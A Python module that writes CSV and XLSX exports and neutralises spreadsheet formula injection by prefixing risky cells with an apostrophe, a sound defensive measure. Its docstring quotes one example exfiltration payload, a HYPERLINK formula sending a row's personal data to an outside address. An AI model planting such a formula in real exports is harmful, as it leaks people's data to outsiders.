"""The one writer of every CSV and XLSX file the system hands out.

Names, titles and labels come from partners and staff, and a spreadsheet program runs
a cell that starts like a formula: `=HYPERLINK("http://…?"&B2,"x")` in a nominated
trainee's name would send the row's personal data elsewhere when a colleague clicks it.
So text that a spreadsheet would read as a formula is written with a leading apostrophe
(OWASP's advice for CSV injection), in CSV and XLSX alike, and XLSX cells are typed:
numbers and dates stay numbers and dates, everything else is stored as a string, never
as a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime, time
from decimal import Decimal, InvalidOperation
from typing import Any

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.styles import Font

# Excel opens a UTF-8 CSV with Japanese text correctly only when it starts with a BOM.
UTF8_BOM = "\ufeff"

# What a spreadsheet program takes for the start of a formula (OWASP), and the full-width
# signs that a Japanese input method turns into them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NEUTRALISING_PREFIX = "'"

# An XLSX sheet title holds at most 31 characters.
SHEET_TITLE_LENGTH = 31

Row = Sequence[Any]


def neutralised(text: str) -> str:
    """The text, with an apostrophe in front when it would otherwise start a formula."""
    return NEUTRALISING_PREFIX + text if text.startswith(FORMULA_STARTS) else text


def _is_number(value: Any) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def _as_number(text: str) -> int | Decimal | None:
    """A numeric column's value that arrived as text ("12", "-3.5"), or None."""
    try:
        number = Decimal(text.strip())
    except (InvalidOperation, ValueError):
        return None
    if not number.is_finite():
        return None
    return int(number) if number == number.to_integral_value() and "." not in text else number


def _text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, (list, tuple)):
        return " ".join(_text(item) for item in value)
    return str(value)


def csv_cell(value: Any, *, numeric: bool = False) -> Any:
    """What the CSV writer receives: numbers and dates as they are, text neutralised."""
    if _is_number(value) or isinstance(value, (date, time)):
        return value
    if numeric and isinstance(value, str) and _as_number(value) is not None:
        return value.strip()
    return neutralised(_text(value))


def xlsx_value(value: Any, *, numeric: bool = False) -> Any:
    """What goes into an XLSX cell: a number, a date, or neutralised text."""
    if _is_number(value):
        return value
    if isinstance(value, datetime):
        # Excel has no time zones: a moment is written as Tokyo (local) wall-clock time.
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, (date, time)):
        return value
    if numeric and isinstance(value, str):
        number = _as_number(value)
        if number is not None:
            return number
    return neutralised(_text(value))


def csv_text(rows: Iterable[Row], *, numeric_columns: Sequence[bool] = (), bom: bool = True) -> str:
    """Rows as CSV text; `numeric_columns[i]` marks a column whose text holds numbers."""
    buffer = io.StringIO()
    if bom:
        buffer.write(UTF8_BOM)
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(
            [
                csv_cell(value, numeric=index < len(numeric_columns) and numeric_columns[index])
                for index, value in enumerate(row)
            ]
        )
    return buffer.getvalue()


@dataclass
class Sheet:
    """One sheet of a workbook: rows of cells, some of them bold (titles, headers)."""

    title: str
    rows: list[Row] = field(default_factory=list)
    bold_rows: dict[int, int] = field(default_factory=dict)  # row index -> font size (0: default)
    numeric_columns: Sequence[bool] = ()

    def append(self, row: Row, *, bold: bool = False, size: int = 0) -> None:
        if bold:
            self.bold_rows[len(self.rows)] = size
        self.rows.append(row)


def workbook_bytes(sheets: Iterable[Sheet]) -> bytes:
    """An XLSX file with one sheet per `Sheet`; no cell is ever stored as a formula."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for sheet in sheets:
        worksheet = workbook.create_sheet(title=sheet.title[:SHEET_TITLE_LENGTH])
        for row_index, row in enumerate(sheet.rows):
            size = sheet.bold_rows.get(row_index)
            for column_index, value in enumerate(row):
                numeric = (
                    size is None and column_index < len(sheet.numeric_columns) and sheet.numeric_columns[column_index]
                )
                cell = worksheet.cell(
                    row=row_index + 1, column=column_index + 1, value=xlsx_value(value, numeric=numeric)
                )
                if isinstance(cell.value, str):
                    # openpyxl would store any text starting with "=" as a formula.
                    cell.data_type = TYPE_STRING
                if size is not None:
                    cell.font = Font(bold=True, size=size) if size else Font(bold=True)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()
